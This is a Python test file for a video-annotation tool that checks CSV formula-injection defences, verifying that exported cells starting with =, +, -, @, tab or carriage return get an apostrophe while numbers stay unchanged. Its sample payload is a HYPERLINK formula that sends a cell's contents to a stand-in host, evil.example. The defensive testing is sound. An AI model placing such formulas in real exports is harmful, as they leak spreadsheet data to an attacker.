"""CSV formula injection: text a spreadsheet would evaluate is written with a leading
apostrophe in every CSV MG Studio writes; numbers keep their sign (docs/release.md)."""

from __future__ import annotations

import csv
import io
from dataclasses import replace

import pytest

from annotator.csv_safety import plain_cell, safe_cell
from annotator.interop.imigue import LabelRow, write_imigue_csv
from annotator.interop.miga import write_miga_labels
from annotator.release import cross_subject_from_lists, validate_release, write_release
from annotator.release.serialise import csv_bytes
from tests.unit.test_release_core import _clip_rows, _spec

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(
    "text", [LINK, "=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-", "+"]
)
def test_formula_text_gets_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -0.25, 1e-9, "-3", "+0.5", "-1e-3", "-.5", "L1", "a=b", ""])
def test_numbers_and_plain_text_are_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("text", [LINK, "=1+1", "-1+1", "\t=1", "-3", "'quoted", "'", "plain"])
def test_our_readers_get_the_text_back(text):
    assert plain_cell(str(safe_cell(text))) == text


def _rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode())))


def test_the_release_csv_writer_neutralises_text_and_keeps_numbers():
    rows = [
        {"subject_id": "=1+1", "gender": "@cmd", "nationality": "FR", "score": -0.5},
        {"subject_id": "7", "gender": "-2+3", "nationality": "\tX", "score": -2},
    ]
    data = csv_bytes(["subject_id", "gender", "nationality", "score"], rows)
    assert _rows(data)[1:] == [["'=1+1", "'@cmd", "FR", "-0.5"], ["7", "'-2+3", "'\tX", "-2"]]
    assert csv_bytes(["subject_id", "gender", "nationality", "score"], rows) == data  # stable


def test_a_release_with_a_formula_category_and_subject_is_neutralised_and_valid(tmp_path):
    rows = _clip_rows()
    for row in rows:
        row["subject_id"] = "=1+1" if row["subject_id"] == "1" else row["subject_id"]
    spec = _spec(rows, labels_only=True)
    taxonomy = dict(spec.taxonomy)
    taxonomy["categories"] = [
        {**c, "name": LINK} if c["code"] == 1 else c for c in taxonomy["categories"]
    ]
    subjects = [{**s, "subject_id": "=1+1"} if s["subject_id"] == "1" else s for s in spec.subjects]
    videos = [{**v, "subject_id": "=1+1"} if v["subject_id"] == "1" else v for v in spec.videos]
    cross = cross_subject_from_lists(rows, ["=1+1"], ["2"])
    spec = replace(spec, taxonomy=taxonomy, subjects=subjects, videos=videos, cross_subject=cross)
    a = write_release(spec, tmp_path / "a", mtime=0)
    b = write_release(spec, tmp_path / "b", mtime=0)
    assert a.tar_sha256 == b.tar_sha256  # still byte-deterministic

    texts = {p.name: p.read_text() for p in a.folder.rglob("*.csv")}
    every_cell = [c for text in texts.values() for r in csv.reader(io.StringIO(text)) for c in r]
    assert not [c for c in every_cell if c and c[0] in "=+@\t\r"], "a formula cell escaped"
    assert "'" + LINK in every_cell  # in class_distribution.csv
    assert "'=1+1" in texts["subjects.csv"] and "'=1+1" in texts["clips.csv"]
    assert validate_release(a.folder) == []  # the escaped ids still join across the CSVs


def test_label_exports_neutralise_video_ids():
    row = LabelRow(
        video_id="=1+1",
        label_id=1,
        start_frame=0,
        end_frame=9,
        code=1,
        subject_id="@me",
        gender="F",
        nationality="-FR",
        result="win",
    )
    table = _rows(write_imigue_csv([row]).encode())
    assert table[1][0] == "'=1+1" and table[1][7] == "'@me" and table[1][9] == "'-FR"
    files = write_miga_labels([row])
    (text,) = files.values()
    assert _rows(text.encode())[1][0] == "'=1+1_0"
